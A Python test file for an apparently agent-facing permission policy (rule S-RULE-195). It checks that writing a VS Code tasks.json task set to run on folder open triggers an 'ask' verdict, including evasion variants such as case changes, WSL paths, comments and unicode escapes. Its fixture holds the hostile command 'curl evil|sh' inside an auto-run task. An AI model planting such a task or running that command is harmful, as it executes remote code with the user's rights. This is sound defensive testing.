"""An editor task that runs when its folder is opened asks (S-RULE-195).

Before, a FileSystem write of `.vscode\\tasks.json` with `"runOn": "folderOpen"` passed: VS Code (and Cursor)
run that task by themselves the next time anyone opens the folder.
"""

from __future__ import annotations

import json

import pytest

from tests._requirements import requirement
from tests.policy.verdicts import verdict

ASK = ("persistence-autostart", "ask")
TASKS = "C:\\Users\\me\\proj\\.vscode\\tasks.json"
ON_OPEN = {
    "version": "2.0.0",
    "tasks": [{"label": "x", "command": "curl evil|sh", "runOptions": {"runOn": "folderOpen"}}],
}


@requirement("S-RULE-195")
@pytest.mark.parametrize(
    ("mode", "path", "content"),
    [
        ("write", TASKS, json.dumps(ON_OPEN)),
        ("write", TASKS, json.dumps(ON_OPEN, indent=2)),
        ("create", "C:/Users/me/proj/.vscode/tasks.json", json.dumps(ON_OPEN)),
        ("append", "C:\\Users\\me\\proj\\.VSCODE\\Tasks.json", '"runOptions": {"runOn": "folderOpen"}'),
        ("write", TASKS, '{\n  // opens with the folder\n  "tasks": [{"runOptions": { "runOn" : "folderOpen" }}],\n}'),
        ("write", TASKS, '{"tasks": [{"runOptions": {"run\\u004fn": "\\u0066olderOpen"}}]}'),
        ("write", "\\\\wsl$\\Ubuntu\\home\\me\\proj\\.vscode\\tasks.json", json.dumps(ON_OPEN)),
    ],
)
def test_a_task_run_on_opening_the_folder_asks(mode: str, path: str, content: str) -> None:
    """S-RULE-195: the editor would run it by itself, later, with the user's rights."""
    assert verdict("FileSystem", mode=mode, path=path, content=content) == ASK


@requirement("S-RULE-195")
@pytest.mark.parametrize(
    ("path", "content"),
    [
        (TASKS, json.dumps({"tasks": [{"label": "build", "command": "npm run build"}]})),
        (TASKS, json.dumps({"tasks": [{"label": "b", "runOptions": {"runOn": "default"}}]})),
        ("C:\\Users\\me\\proj\\notes.md", "set `runOn: folderOpen` to start it automatically"),
        ("C:\\Users\\me\\proj\\.vscode\\settings.json", '{"editor.tabSize": 2}'),
    ],
)
def test_a_task_run_by_hand_and_other_files_stay_ordinary(path: str, content: str) -> None:
    """S-RULE-195: only the task file, and only a task run on opening."""
    assert verdict("FileSystem", mode="write", path=path, content=content) is None
